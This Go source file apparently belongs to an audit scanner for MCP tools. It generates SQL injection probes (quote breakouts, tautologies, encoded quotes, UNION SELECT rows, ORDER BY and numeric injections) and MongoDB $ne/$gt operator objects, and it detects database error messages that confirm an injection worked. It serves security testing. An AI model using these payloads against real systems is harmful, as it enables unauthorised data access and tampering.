package attack

import (
	"cmp"
	"encoding/json"
	"slices"
	"strconv"
	"strings"

	"github.com/mcpaudit/mcpaudit/runner/inputs"
	"github.com/mcpaudit/mcpaudit/runner/lazyregexp"
)

// queryForms are the ways to leave a string of a statement in SQL. The first leaves none, and
// shows where honest values stand. What is joined is valid in every clause.
var queryForms = []form{
	asked("as a name", "!").plainly(),
	asked("joined behind a single quote", "{}'||!||'"),
	told("a comparison that is read, behind a single quote", "{}' or 'a'='a", false), told("a comparison that cannot be read, behind a single quote", "{}' 'a' or='a", true),
	told("another comparison that is read, behind a single quote", "{}' and 'b'='b", false), told("another comparison that cannot be read, behind a single quote", "{}' 'b' and='b", true),
	asked("behind a single quote", "{}' OR ! --"),
	asked("behind a single quote, without a comment", "{}' OR ! OR '"),
	asked("behind a double quote", `{}" OR ! --`),
	asked("behind a backslash and a single quote", `{}\' OR ! --`),
	asked("behind a bracket and a single quote", "{}') OR ! --"),
	asked("behind a backtick", "{}` OR ! --"),
	asked("behind a single quote, without a blank", "{}'/**/OR/**/!--"),
	asked("behind a single quote in full width", "{}＇ OR ! --"),
	asked("behind an encoded single quote", "{}%27 OR ! --"),
	asked("joined behind a double quote", `{}"||!||"`),
	asked("behind the bracket of a filter", "{})(!=1"),
	united(1), united(2), united(3), united(4), united(5), united(6), united(7), united(8),
}

// likeliest is how many of them, from the first, are tried on a tool that shows no sign of a database. They
// are in the words that SQL has in common with XPath and other languages of queries.
const likeliest = 6

// behindNumber is the way out of where a number stands, with no quotes to leave.
var behindNumber = form{name: "behind a number", raw: true, write: func(f field, m inputs.Mark, _ int) string {
	return f.plainly(m) + " OR " + m.ID()
}}

// plainly is the honest value in no quotes: a number where there is none of a number.
func (f field) plainly(m inputs.Mark) string {
	if f.numbers() {
		return cmp.Or(f.core(), "1")
	}
	return f.honest(m)
}

// rawForms are for places that are in no quotes: those of the names of columns, directions and numbers.
// No name that is looked at has the "-" in it that the mark has.
var rawForms = []form{
	asked("behind a comma, in no quotes", "{} , !").unquoted(),
	asked("behind a direction, in no quotes", "{} DESC, !").unquoted(),
	asked("behind OR, in no quotes", "{} OR !").unquoted(),
	selected("a value that is read, behind a comma", "{} , (SELECT 7 ORDER BY 1)", false), selected("a value that cannot be read, behind a comma", "{} , (SELECT ORDER 7 BY 1)", true),
	selected("another value that is read, behind a comma", "{} , (SELECT 8 ORDER BY 1)", false), selected("another value that cannot be read, behind a comma", "{} , (ORDER SELECT BY 8 1)", true),
}

// keyForm is for an object that takes any keys, which may be the names of columns: it writes into the
// key what other forms write into the value.
var keyForm = form{name: "as a key, in no quotes", raw: true, key: true, write: func(_ field, m inputs.Mark, _ int) string { return m.ID() }}

// keyed is the place in the same object that has another key, by the name of the object.
func (f field) keyed(key string) field {
	f.name, f.steps = above(f.name), append(slices.Clone(f.steps[:len(f.steps)-1]), key)
	return f
}

// keys are the places below objects that take any keys, one of each object.
func keys(fields []field) (found []field) {
	for _, f := range fields {
		within := func(other field) bool { return above(other.name) == above(f.name) }
		if _, isKey := f.steps[len(f.steps)-1].(string); isKey && f.free && !slices.ContainsFunc(found, within) {
			found = append(found, f)
		}
	}
	return found
}

// numberForms are those for numbers.
var numberForms = []form{
	behindNumber,
	selected("a number that is read", "{} + (SELECT 0 ORDER BY 1)", false), selected("a number that cannot be read", "{} + (SELECT ORDER 0 BY 1)", true),
	selected("another number that is read", "{} - (SELECT 0 ORDER BY 1)", false), selected("another number that cannot be read", "{} - (ORDER SELECT BY 0 1)", true),
	added(1), added(2), added(3), added(4), added(5), added(6), added(7), added(8),
}

// Parse says what an attempt shows of a statement whose errors are hidden: who takes what SQL can read,
// and refuses the same words in an order that it cannot read, has given it to a database.
type Parse string

// The sorts of such attempts.
const (
	ParseValid  Parse = "Valid"
	ParseBroken Parse = "Broken"
)

func (f form) unquoted() form { f.raw = true; return f }

// told is a form that leaves a string, and shows that as selected does.
func told(name, pattern string, broken bool) form {
	f := selected(name, pattern, broken)
	f.quoted = true
	return f
}

func selected(name, pattern string, broken bool) form {
	f := asked(name, pattern)
	f.parse = ParseValid
	if broken {
		f.parse = ParseBroken
	}
	f.write = func(at field, m inputs.Mark, _ int) string {
		return at.before + strings.Replace(pattern, "{}", at.plainly(m), 1) + at.behind
	}
	return f
}

// united is a form that adds a row of so many columns, each with the mark as the codes of its
// letters: only SQLite makes the mark of them.
func united(columns int) form {
	return form{name: "with a row added behind a single quote", write: func(f field, m inputs.Mark, _ int) string {
		return f.before + f.honest(m) + "'" + union(m, columns) + f.behind
	}}
}

// added is the same where numbers stand.
func added(columns int) form {
	return form{name: "with a row added behind a number", write: func(f field, m inputs.Mark, _ int) string {
		return f.before + f.plainly(m) + union(m, columns) + f.behind
	}}
}

func union(m inputs.Mark, columns int) string {
	codes := make([]string, len(m.ID()))
	for i, letter := range []byte(m.ID()) {
		codes[i] = strconv.Itoa(int(letter))
	}
	column := "char(" + strings.Join(codes, ",") + ")"
	return " UNION SELECT " + strings.Join(slices.Repeat([]string{column}, columns), ",") + " --"
}

// asked is a form by its pattern: "{}" stands for the honest value, "!" for the mark.
func asked(name, pattern string) form {
	return form{name: name, write: func(f field, m inputs.Mark, _ int) string {
		return f.before + strings.NewReplacer("{}", f.honest(m), "!", m.ID()).Replace(pattern) + f.behind
	}}
}

// maxQueryFields is at how many places of one target they are tried.
const maxQueryFields = 4

// querySteps are the attempts of family Query: all of them on what may ask a database.
func querySteps(fields []field, seen Seen, said string) (all []step) {
	forms, numbers, raw := queryForms, numberForms, rawForms
	if !seen.Network && !seen.Database && !ofDatabase.MatchString(said) {
		forms, numbers, raw = forms[:likeliest], numbers[:1], nil
	}
	fields = slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return f.next || statementLike.MatchString(f.value) })
	texts := slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return !f.text && !f.choice })
	slices.SortStableFunc(texts, func(a, b field) int { return cmp.Compare(choices(a), choices(b)) })
	texts = texts[:min(len(texts), maxQueryFields)]
	quoted := slices.DeleteFunc(formed(Query, forms, texts), func(s step) bool { return s.form.quoted && s.field.takesSQL() })
	number := slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return !f.numbers() })
	names := slices.DeleteFunc(slices.Clone(texts), func(f field) bool { return f.takesSQL() || f.numbers() })
	all = alternate(formed(Query, []form{keyForm}, keys(fields)), quoted, formed(Query, numbers, number[:min(len(number), maxQueryFields)]), formed(Query, raw, names))
	if !seen.asksMongo(said) {
		return all
	}
	values := slices.DeleteFunc(slices.Clone(texts), func(f field) bool {
		return !f.onlyText || f.item || slices.Contains(f.steps, any(inJSON{})) || json.Valid([]byte(f.value)) && !f.numbers()
	})
	return append(formed(Query, operatorForms, values), all...)
}

// asksMongo reports whether a capability asks a MongoDB, or says so.
func (s Seen) asksMongo(said string) bool {
	return slices.Contains(s.Ports, mongoPort) || ofMongo.MatchString(said)
}

const mongoPort = 27017

var ofMongo = lazyregexp.New(`(?i)mongo`)

// operatorForms are objects with an operator of MongoDB for what is to be a text.
var operatorForms = []form{operated("$ne"), operated("$gt")}

func operated(operator string) form {
	return form{name: "as an object with the operator " + operator, object: true, write: func(_ field, m inputs.Mark, _ int) string {
		return `{"` + operator + `":"` + m.ID() + `"}`
	}}
}

// choices puts texts that may be any before those that are one of some.
func choices(f field) int {
	if f.choice {
		return 1
	}
	return 0
}

// numbers reports whether a place takes numbers only, by its type or its name.
func (f field) numbers() bool {
	_, err := strconv.ParseInt(f.value, 10, 64)
	return err == nil && forNumber.MatchString(f.name) || f.number
}

// forNumber are names of numbers that may be declared as texts.
var forNumber = lazyregexp.New(`(?i)(?:^|[_.-])(?:id|number|limit|offset|page|year)$|[a-z](?:Id|Number)$`)

// ofDatabase are words of what asks one.
var ofDatabase = lazyregexp.New(`(?i)\bsql|sqlite|\bdatabases?\b|\bdb\b|\btables?\b|\brecords?\b|\brows?\b|\bquer(?:y|ies)\b`)

// ParsedAlone is Parsed for a mark that stands in no quotes in any case: the "-" in it was read, too.
func ParsedAlone(answer string) bool {
	for _, at := range unknownColumn.FindAllStringIndex(answer, maxFields) {
		if !strings.HasPrefix(answer[at[1]:], "-") {
			return true
		}
	}
	return false
}

// Parsed reports whether an answer says that the database took the word of a mark for the name of a
// column: it stood in no quotes.
func Parsed(answer string) bool { return unknownColumn.MatchString(answer) }

// unknownColumn matches the complaints of SQLite, PostgreSQL, MySQL, SQL Server, DuckDB and Oracle about a
// column that they do not know.
var unknownColumn = lazyregexp.New(strings.ReplaceAll("(?i)no such column:? [`\"']?W\\b|column [`\"']W[`\"'] (?:does not exist|not found)|"+
	"unknown column [`\"']W[`\"']|invalid column name 'W'|\"W\": invalid identifier", "W", inputs.Word))
